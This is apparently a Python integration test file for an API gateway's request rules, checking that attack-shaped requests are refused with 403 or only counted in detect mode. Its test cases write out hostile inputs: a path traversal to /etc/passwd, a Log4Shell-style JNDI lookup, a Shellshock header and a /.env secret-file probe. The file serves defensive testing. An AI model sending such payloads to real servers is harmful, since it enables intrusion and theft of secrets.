"""Request rules at the door: refused, told of, or neither."""

import asyncio
import http.client

import pytest

from tests.integration.gateway.running import Gateway, StartGateway

HITS = 'pulsegate_gateway_rule_hits_total{outcome="%s",rule="%s"}'


def asked(gateway: Gateway, method: str, target: str, **headers: str) -> tuple[int, bytes]:
    """With the target as it is: other clients would tidy it up."""
    connection = http.client.HTTPConnection("127.0.0.1", gateway.public_port, timeout=5)
    try:
        connection.request(method, target, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


@pytest.mark.parametrize(
    ("method", "target", "agent", "rule"),
    [
        ("GET", "/api/v1/../../etc/passwd", "curl", "path_traversal"),
        ("TRACE", "/", "curl", "method"),
        ("GET", "/health/live", "${jndi:ldap://192.0.2.1/a}", "expression_lookup"),
        ("POST", "/api/v1/metrics", "() { :;}; /bin/true", "shell_function"),
    ],
)
async def test_an_attacks_shape_is_refused_before_anything_else_and_counted(
    gateway: Gateway, method: str, target: str, agent: str, rule: str
) -> None:
    before = await gateway.shown(HITS % ("refused", rule))
    status, body = await asyncio.to_thread(asked, gateway, method, target, **{"User-Agent": agent})
    assert status == 403
    assert b'"REQUEST_REFUSED"' in body
    assert f'"rule":"{rule}"'.encode() in body
    assert await gateway.shown(HITS % ("refused", rule)) == before + 1
    assert gateway.auth.asked == 0


async def test_a_rule_that_only_detects_tells_and_lets_pass(start_gateway: StartGateway) -> None:
    async with start_gateway(request_rules="detect") as gateway:
        before = await gateway.shown(HITS % ("detected", "secret_file"))
        status, body = await asyncio.to_thread(asked, gateway, "GET", "/.env")
        assert (status, b'"NOT_FOUND"' in body) == (404, True)
        assert await gateway.shown(HITS % ("detected", "secret_file")) == before + 1
    async with start_gateway(request_rules="off") as gateway:
        before = await gateway.shown(HITS % ("detected", "secret_file"))
        await asyncio.to_thread(asked, gateway, "GET", "/.env")
        assert await gateway.shown(HITS % ("detected", "secret_file")) == before
